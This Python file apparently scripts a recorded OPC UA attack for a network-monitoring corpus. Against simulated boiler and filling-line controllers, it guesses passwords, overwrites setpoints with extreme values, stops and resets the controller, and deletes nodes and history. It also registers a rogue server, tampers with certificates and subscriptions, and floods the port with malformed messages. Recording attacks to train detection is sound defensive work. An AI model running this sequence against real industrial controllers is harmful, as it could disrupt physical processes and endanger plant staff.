"""A rogue workstation maps a controller, guesses passwords, writes over its setpoints, stops it and tears its
address space, its subscriptions and its certificates down, beside an HMI at work."""

from collections.abc import Iterable

from plantwatch.corpus.record import Recording
from plantwatch.corpus.record.streams import blank, cut

RECORDING = Recording(
    "opcua/recorded-attack",
    stacks=("asyncua 2.1.0",),
    servers=("10.54.1.10", "10.54.1.11"),
    clients=("10.54.1.20", "10.54.1.66"),
    listens=("tcp 4840",),
)


def server() -> None:
    """The boiler controller under attack and the filling line."""
    from _opcua import BOILER, FILLER, production

    production([BOILER, FILLER])


def signature(said: bytes) -> Iterable[bytes]:
    """Chunks by their size field; sequence number and request id count what is sent beside them."""
    return (blank(chunk, (16, 24)) for chunk in cut(said, lambda rest: int.from_bytes(rest[4:8], "little")))


def client() -> None:
    """Discover, guess, crawl, write, stop, destroy, flood."""
    import asyncio

    asyncio.run(_attack())


async def _attack() -> None:
    from contextlib import suppress

    from _opcua import ATTACKER, BOILER, FILLER, HMI, MEASURED, SET, connect, node
    from asyncua import ua

    denied = suppress(ua.UaError)
    async with connect(HMI, FILLER, "operator") as hmi:
        values = [hmi.get_node(node(name)) for name in MEASURED]
        await hmi.read_values(values)

        for address in (BOILER, FILLER):
            scout = connect(ATTACKER, address)
            await scout.connect_and_find_servers()
            await scout.connect_and_get_server_endpoints()
        for guess in range(12):
            with denied:
                await connect(ATTACKER, BOILER, "engineer", password=f"guess-{guess}").connect()

        async with connect(ATTACKER, BOILER) as anonymous:
            await _crawl(anonymous)
            await anonymous.read_values([anonymous.get_node(node(name)) for name in MEASURED])
            await anonymous.get_node(node("Temperature")).read_raw_history(numvalues=20)
            for attempt in range(30):
                await anonymous.get_node(node("Setpoint")).write_value(float(attempt))
            for name in SET[:2]:
                await anonymous.get_node(node(name)).write_value(9999.0)
            with denied:
                await anonymous.get_node(node("Temperature")).write_value(0.0)
            await anonymous.nodes.objects.call_method(node("Stop"))
            await anonymous.nodes.objects.call_method(node("Reset"))
            with denied:
                await anonymous.delete_nodes([anonymous.get_node(node("Level"))])
        await hmi.read_values(values)

        async with connect(ATTACKER, BOILER, "engineer") as stolen:
            await _take_apart(stolen)
        await hmi.read_values(values)
    _flood(BOILER)


async def _crawl(client: object) -> None:
    """Browse level by level from the root, a hundred nodes and no more."""
    waiting, seen = [client.nodes.root], 0
    while waiting and seen < 100:
        seen += 1
        waiting += await waiting.pop(0).get_children()


async def _take_apart(client: object) -> None:
    """With the engineer's password: subscriptions, address space, registration, certificates, state."""
    import asyncio
    from contextlib import suppress

    from _opcua import ATTACKER, NAMESPACE, node
    from asyncua import ua

    denied, ids = suppress(ua.UaError), ua.ObjectIds
    line = client.get_node(ua.NodeId("Line", NAMESPACE))
    session = client.uaclient.session

    class Watcher:
        """Is told the first value; then the stack asks for the next, which must be done before going on."""

        def datachange_notification(self, node: object, value: object, data: object) -> None:
            told.set()

    told = asyncio.Event()
    subscription = await client.create_subscription(50, Watcher())
    handle = await subscription.subscribe_data_change(client.get_node(node("Level")))
    await told.wait()
    await asyncio.sleep(0.1)
    await subscription.set_monitoring_mode(ua.MonitoringMode.Disabled)
    await subscription.set_publishing_mode(False)
    await subscription.modify_monitored_item(handle, 3_600_000)
    await subscription.unsubscribe(handle)
    for number in range(1, 6):
        await session.transfer_subscriptions(
            ua.TransferSubscriptionsParameters(SubscriptionIds=[number], SendInitialValues=True)
        )
    await subscription.delete()

    await line.add_folder(node("Implant"), f"{NAMESPACE}:Implant")
    await line.add_reference(node("Stop"), ids.Organizes)
    await line.delete_reference(node("Stop"), ids.Organizes)
    details = ua.DeleteRawModifiedDetails(NodeId=node("Temperature"), IsDeleteModified=False)
    with denied:
        await session.history_update(ua.HistoryUpdateParameters([details]))
    await client.delete_nodes([client.get_node(node(name)) for name in ("Implant", "Level", "Reset")])

    rogue = ua.RegisteredServer(
        ServerUri=f"urn:example:{ATTACKER}",
        ProductUri="urn:example:rogue",
        ServerNames=[ua.LocalizedText("Example line controller")],
        ServerType=ua.ApplicationType.Server,
        DiscoveryUrls=[f"opc.tcp://{ATTACKER}:4840/plant"],
        IsOnline=True,
    )
    with denied:
        await client.uaclient.register_server(rogue)
    configuration = client.get_node(ids.ServerConfiguration)
    for method in (ids.ServerConfiguration_UpdateCertificate, ids.ServerConfiguration_ApplyChanges):
        with denied:
            await configuration.call_method(ua.NodeId(method))
    with denied:
        await client.nodes.server.call_method(ua.NodeId(ids.Server_RequestServerStateChange))


def _flood(address: str) -> None:
    """Twenty connections that say Hello and no more, five that say what no server knows."""
    import socket
    import struct

    from _opcua import ATTACKER

    url = f"opc.tcp://{address}:4840/plant".encode()
    body = struct.pack("<5Ii", 0, 65536, 65536, 0, 0, len(url)) + url
    hello = b"HELF" + struct.pack("<I", 8 + len(body)) + body
    wrong = b"XYZF" + struct.pack("<I", 16) + bytes(8)
    for message in (*[hello] * 20, *[wrong] * 5):
        with socket.create_connection((address, 4840), timeout=1, source_address=(ATTACKER, 0)) as connection:
            connection.sendall(message)
            if message is hello:
                connection.recv(1024)
